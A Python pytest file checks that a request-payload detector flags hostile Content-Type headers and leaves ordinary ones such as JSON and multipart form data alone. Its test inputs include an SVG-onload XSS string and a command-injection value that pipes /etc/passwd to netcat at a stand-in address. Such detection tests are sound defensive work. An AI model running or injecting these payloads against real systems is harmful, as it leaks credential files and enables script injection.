"""A Content-Type out of its ordinary shape is judged like the other headers; the
types browsers and clients send stay quiet."""

from __future__ import annotations

import pytest

from tests.runtime.payloads import payload_kinds


def test_script_in_a_content_type_is_xss() -> None:
    value = "text/html; x=<" + "svg onload=alert(1)>"
    assert "xss" in payload_kinds(headers=(("content-type", value),))


def test_a_command_in_a_content_type_is_cmdi() -> None:
    value = "text/plain;" + " cat /etc/passwd |" + " nc 203.0.113.9 80"
    assert "cmdi" in payload_kinds(headers=(("content-type", value),))


@pytest.mark.parametrize(
    "value",
    [
        "application/json; charset=utf-8",
        "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
        'multipart/form-data; boundary="simple boundary"',
        "application/x-www-form-urlencoded",
        "text/plain;charset=UTF-8",
        "application/vnd.api+json",
    ],
)
def test_ordinary_content_types_stay_quiet(value: str) -> None:
    assert payload_kinds(headers=(("content-type", value),)) == set()
